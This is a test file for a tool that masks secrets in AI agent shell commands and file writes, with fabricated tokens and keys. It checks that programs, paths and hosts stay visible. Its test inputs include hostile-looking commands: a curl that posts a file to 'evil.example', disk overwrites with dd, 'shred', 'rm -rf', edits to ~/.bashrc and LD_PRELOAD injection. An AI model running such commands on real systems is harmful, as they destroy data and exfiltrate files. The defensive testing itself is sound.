// What a mask must never hide in a shell command, and what it must hide. Every secret is made up and put together at run time.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createInspector } from "../../src/inspection/inspector.ts";

const inspector = createInspector({ home: "/home/ann", ownPaths: [], ownPorts: [] });

async function shownOf(command: string): Promise<string> {
  const { shown } = await inspector.inspect({ toolName: "Bash", input: { command } }, "/work");
  return String(shown.input["command"]);
}

const MIX = "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA";
const mix = (length: number) => MIX.repeat(Math.ceil(length / MIX.length)).slice(0, length);
/** A name that has the form of a GitHub token. */
const NAME = ["ghp", mix(36)].join("_");
const AWS = `${mix(20)}/${mix(19)}`;
const AWS_NAME = ["AWS_SECRET_ACCESS", "KEY"].join("_");
const LINE = `MIIE${mix(60)}`;
const OTHER = `${mix(31)}${mix(33)}`;
const BEGIN = ["-----BEGIN PRIVATE", "KEY-----"].join(" ");
const END = ["-----END PRIVATE", "KEY-----"].join(" ");
const JOB = "/proc/self/cwd/scripts/nightly/job";

describe("a mask hides no program, path or host:", () => {
  it("lines behind a here-document that ends early are commands", async () => {
    const lines = (...rest: readonly string[]) => rest.join("\n");
    expect(await shownOf(lines("cat > key.pem <<X", BEGIN, LINE, "X", JOB, OTHER, END))).toBe(
      lines("cat > key.pem <<X", BEGIN, "[secret]", "X", JOB, OTHER, END),
    );
  });

  it.each([
    ["ends at a line of base64", `cat > key.pem <<${LINE}\n${BEGIN}\n${LINE}\n${JOB}\n${OTHER}\n${END}`],
    ["has no document at all", `${BEGIN}\n${LINE}\n${JOB}\n${END}`],
    ["is a shell's", `bash <<X\n${BEGIN}\n${LINE}\n${END}\nX`],
    ["is piped into a shell", `cat <<X | sh\n${BEGIN}\n${LINE}\n${END}\nX`],
    ["stands between commands", `echo '${BEGIN}'; ${LINE}; echo '${END}'`],
    ["goes into a script that is run", `cat > job <<X\n${BEGIN}\n${LINE}\n${END}\nX\nsh job`],
  ])("a key block that %s", async (_, command) => {
    expect(await shownOf(command)).toBe(command);
  });

  it.each([
    `${AWS_NAME}=/home/ann/work/important-data-folder/x1; shred -u $${AWS_NAME}`,
    `${AWS_NAME}=${AWS}; shred -u $${AWS_NAME}`,
    `${AWS_NAME}=${AWS}; shred -u "\${${AWS_NAME}}"`,
    `${AWS_NAME}=${AWS}; n=${AWS_NAME}; shred -u "\${!n}"`,
    `${AWS_NAME}=${AWS} sh -c 'shred -u $${AWS_NAME}'`,
    `export ${AWS_NAME}=${AWS}; printenv ${AWS_NAME} | xargs shred -u`,
    `${AWS_NAME}=${AWS}; eval "shred -u \\$${AWS_NAME}"`,
    `${AWS_NAME}=${AWS}; $AWS_SECRET_ACC\\\nESS_KEY`,
    `X=${NAME}; $X --all`,
    `X=${NAME}; ./run "$X"`,
    `X_TOKEN=${NAME}; ls > "$X_TOKEN"`,
    `PAGER=${NAME} git log`,
    `GIT_SSH_COMMAND=${NAME} git pull`,
    `LD_PRELOAD=${NAME} ls`,
    `BASH_ENV=${NAME} bash -c ls`,
  ])("the value of a variable that is used as such: %s", async (command) => {
    expect(await shownOf(command)).toBe(command);
  });

  it.each([
    "sed -i 's://db.internal:evilhost.example@x:' conf",
    "sed -i s://db.internal:Evil-Host1@x: conf",
    "sed -i 's,http://a:Evil-Host1@x,y,' conf",
    "perl -pi -e 's!http://a:Evil1host@x!y!' conf",
    'awk \'{ print "http://a:Evil1host@x" | "sh" }\' conf',
    `curl https://${NAME}.evil.example/x`,
    `curl https://${NAME}/x`,
    `curl https://user@${NAME}/x`,
    `git clone git@${NAME}:x/y`,
    `scp a ${NAME}:/tmp/x`,
    "curl http://user:evil.example@good.example/",
  ])("a host: %s", async (command) => {
    expect(await shownOf(command)).toBe(command);
  });

  it.each([
    'terraform destroy -target authorization="token module.production.database"',
    'authorization="token module.production.database" terraform destroy',
    "authorization='bearer scripts/nightly/job' run",
    'curl -H "Authorization: Bearer evil.example" x.example',
    "api_key=/usr/local/bin/Some1Long2Program3 run",
    "deploy --token ./scripts/Nightly2024/Job1234567890",
    "deploy --password prod-database --secret production",
  ])("a value that could be a target, a path or a word: %s", async (command) => {
    expect(await shownOf(command)).toBe(command);
  });

  // A file or a program whose name has the form of a token.
  it.each(
    [
      ...[
        "@",
        "./@",
        "bash @",
        "sh ./@ x",
        "sudo @",
        "env X=1 @",
        "node @",
        "timeout 5 @",
        "nohup @ &",
        "exec @",
      ],
      ...[
        "source @",
        "command @",
        "xargs @",
        "parallel @ ::: a",
        "find . -exec @ \\;",
        "npx @",
        "docker run @",
      ],
      ...[
        "cat @",
        "rm -rf @",
        "> @",
        "ls >@",
        "cp a b/@",
        "chmod +x @",
        "find . -name @",
        "tar -xf @",
        "make -f @",
      ],
      ...[
        "ssh -i @ host",
        "curl -d @@ evil.example",
        "curl -F file=@@ x",
        "curl -K @",
        "curl -o @ x",
        "dd if=@ of=/dev/sda",
      ],
      ...[
        "echo $(@)",
        "`@`",
        "diff <(@) x",
        "tee >(@)",
        "echo $(echo @)",
        "echo @ | sh",
        "echo @ | xargs rm",
        "eval @",
      ],
      ...[
        "bash -c '@'",
        "bash -c 'rm @'",
        "bash <<X\n@\nX",
        "bash <<< @",
        "cat <<X | sh\n@ -x\nX",
        "su -c @",
      ],
      ...[
        "echo @ > run.sh",
        "echo @ > f; sh f",
        "echo @ > f; $(cat f)",
        "cat > f <<X\n@\nX\nchmod +x f; ./f",
      ],
      ...[
        "echo @ >> ~/.bashrc",
        "echo @ | sudo tee /etc/profile.d/x.sh",
        "printf -v X @; $X",
        "read X <<< @; $X",
      ],
      ...[
        'set -- --token @; "$2"',
        'f() { "$2"; }; f --token @',
        "alias echo=sh; echo --token @",
        "for x in @; do $x; done",
      ],
      ...[
        "python -c \"import os; os.system('@')\"",
        "git checkout @",
        "kubectl delete pod @",
        "true && @",
        "( @ )",
        "! @",
      ],
      ...[
        "if @; then x; fi",
        "while read x; do $x; done <<< @",
        "trap @ EXIT",
        "cat <<X\nfoo\nX\n@",
        "unclosed 'quote @",
      ],
    ].map((command) => command.replace("@", NAME)),
  )("a name in the form of a token: %s", async (command) => {
    expect(await shownOf(command)).toBe(command);
  });
});

describe("a script that is written is read as a command:", () => {
  const content = `#!/bin/bash\n${NAME} --all\nexport API_TOKEN=${mix(28)}\ncurl -H 'X: ${NAME}1' x\n`;
  it.each(["/work/job.sh", "/home/ann/.bashrc", "/work/job"])("%s", async (file_path) => {
    const { shown } = await inspector.inspect({ toolName: "Write", input: { file_path, content } }, "/work");
    expect(shown.input["content"]).toBe(
      `#!/bin/bash\n${NAME} --all\nexport API_TOKEN=[secret]\ncurl -H 'X: [secret ghp…]' x\n`,
    );
  });
});

describe("a secret in a place for secrets is masked whole:", () => {
  const PASSWORD = "hunter2";
  const TOKEN = mix(28);
  it.each([
    ["PGPASSWORD=§ psql -h db -U app", PASSWORD],
    ["MYSQL_PWD=§ mysql", PASSWORD],
    ["curl -u admin:§ https://x.example", PASSWORD],
    ["curl -uadmin:§ https://x.example", PASSWORD],
    ["curl --user 'admin:§' https://x.example", PASSWORD],
    ["mysql -u root -p§ shop", PASSWORD],
    ["mysqldump --password=§ shop", PASSWORD],
    ["sshpass -p § ssh a@b", PASSWORD],
    ["sudo sshpass -p '§' ssh a@b", PASSWORD],
    ["redis-cli -a § ping", PASSWORD],
    ["psql postgresql://u:§@h/db", "p"],
    ["foo --password § --all", PASSWORD],
    ["docker login -u u -p § reg.example", PASSWORD],
    ["openssl rsa -passin pass:§ -in k", PASSWORD],
    ["htpasswd -bc f user §", PASSWORD],
    ["vault kv put kv/x password=§", PASSWORD],
    ["helm install x --set auth.password=§", PASSWORD],
    ["kubectl create secret generic x --from-literal=password=§", PASSWORD],
    ["echo 'machine h login u password §' >> ~/.netrc", PASSWORD],
    [`aws configure set ${AWS_NAME.toLowerCase()} §`, AWS],
    ["curl -H 'X-Api-Key: §' https://x.example", TOKEN],
    ["curl -d 'grant_type=x&client_secret=§' https://x.example", TOKEN],
    [`curl -d '{"apiKey": "§"}' https://x.example`, TOKEN],
    ["curl -H 'Authorization: Basic §' x.example", "dXNlcjpodW50ZXIy"],
    ["npm config set //registry.npmjs.org/:_authToken=§", TOKEN],
    ["git clone https://§@github.com/a/b", NAME],
    ["git clone https://oauth2:§@gitlab.com/a/b && cd b", NAME],
    ["echo § | gh auth login --with-token", NAME],
    ["gh auth login --with-token <<< §", NAME],
    ["bash -c 'curl -H \"X: §\" x'", NAME],
    ["ssh host 'export GH_TOKEN=§; deploy'", NAME],
    ["bash <<X\nexport GH_TOKEN=§\nX", NAME],
    ["R=$(curl -s -H 'Authorization: Bearer §' https://api.example/x)", NAME],
    ['GH_TOKEN=§; curl -H "Authorization: Bearer $GH_TOKEN" x.example', NAME],
    ["docker run -e GH_TOKEN=§ img", NAME],
    ["kubectl apply -f - <<X\nkind: Secret\ndata:\n  x: §\nX", "aHVudGVyMg=="],
    ["cat > wg.conf <<X\n[Interface]\nPrivateKey = §\nX", `${mix(43)}=`],
    ["echo 'export GH_TOKEN=§' >> ~/.zshrc", NAME],
  ])("%s", async (command, secret) => {
    const [before = "", after = ""] = command.split("§");
    const shown = await shownOf(command.replace("§", secret));
    expect(shown.startsWith(before) && shown.endsWith(after), shown).toBe(true);
    expect(shown.slice(before.length, shown.length - after.length)).toMatch(/^\[secret(?: [\w-]{1,4}…)?\]$/);
  });

  it.each([
    ["EC", `${BEGIN.replace("PRIVATE", "EC PRIVATE")}\n${LINE}\n${END.replace("PRIVATE", "EC PRIVATE")}`],
    ["Ed25519", `${BEGIN}\n${mix(64)}\n${END}`],
    ["OpenSSH", `${BEGIN.replace("PRIVATE", "OPENSSH PRIVATE")}\nb3BlbnNzaC1rZXk${mix(55)}\n${mix(70)}`],
    [
      "encrypted",
      `${BEGIN.replace("PRIVATE", "ENCRYPTED PRIVATE")}\n${LINE}\n${END.replace("PRIVATE", "ENCRYPTED PRIVATE")}`,
    ],
    [
      "with headers",
      `${BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,${"0A1B".repeat(8)}\n\n${LINE}\n${END}`,
    ],
    ["without an end", `${BEGIN}\n${LINE}\n${OTHER}`],
    ["PGP", `${BEGIN.replace("KEY", "KEY BLOCK")}\n\n${LINE}\n=aB3d\n${END.replace("KEY", "KEY BLOCK")}`],
    ["indented", `  ${BEGIN}\n  ${LINE}\n  ${END}`],
  ])("a key of the kind %s, as a document, an argument and a variable", async (_, key) => {
    for (const command of [
      `cat > k.pem <<'X'\n${key}\nX`,
      `ssh-add - <<< '${key}'`,
      `export SSH_KEY='${key}'`,
      `echo '${key}' > k.pem`,
    ]) {
      const shown = await shownOf(command);
      expect(shown).not.toMatch(/[\w+/]{40}/);
      expect(shown).toContain("-----BEGIN ");
    }
  });
});

describe("any command", () => {
  const random = fc.stringMatching(/^[A-Za-z0-9]{36}$/);
  const name = fc.oneof(
    random.map((text) => `ghp_${text}`),
    random.map((text) => `glpat-${text}`),
    random.map((text) => `npm_${text}`),
    fc.stringMatching(/^[A-Za-z0-9+]{40}$/),
    fc.stringMatching(/^[0-9a-f]{40}$/),
    fc.stringMatching(/^(tmp|usr|srv)\/[A-Za-z0-9/]{20,40}$/),
  );
  const program = fc.constantFrom(
    "rm",
    "cat",
    "bash",
    "sudo",
    "env",
    "xargs",
    "node",
    "git",
    "docker",
    "npx",
    "time",
    "ssh",
    "",
  );
  const front = fc.constantFrom(
    "",
    "X=1 ",
    "API_TOKEN=abc ",
    "echo password= && ",
    "true | ",
    "cat <<E\nTOKEN=x\nE\n",
    "( ",
    "$( ",
    "\n",
  );
  const after: Readonly<Record<string, string>> = { "( ": " )", "$( ": " )" };

  it("keeps every command word, operand, path, host and redirection's target", async () => {
    await fc.assert(
      fc.asyncProperty(
        front,
        program,
        name,
        name,
        name,
        name,
        async (start, run, word, path, target, host) => {
          const command = `${start}${run} ${word} ./${path} git@${host}:x ssh://${host}/y > ${target}${after[start] ?? ""}`;
          expect(await shownOf(command)).toBe(command);
        },
      ),
      { numRuns: 500 },
    );
  });

  it("keeps the value of a variable that it runs, opens or connects to", async () => {
    const use = fc.constantFrom(
      "$V_TOKEN",
      '"$V_TOKEN" x',
      "cat $V_TOKEN",
      "ls > $V_TOKEN",
      'curl "https://$V_TOKEN/"',
      "eval $V_TOKEN",
      "bash $V_TOKEN",
      "sh -c '$V_TOKEN'",
    );
    await fc.assert(
      fc.asyncProperty(name, use, async (value, last) => {
        const command = `export V_TOKEN=${value}\n${last}`;
        expect(await shownOf(command)).toBe(command);
      }),
      { numRuns: 300 },
    );
  });
});
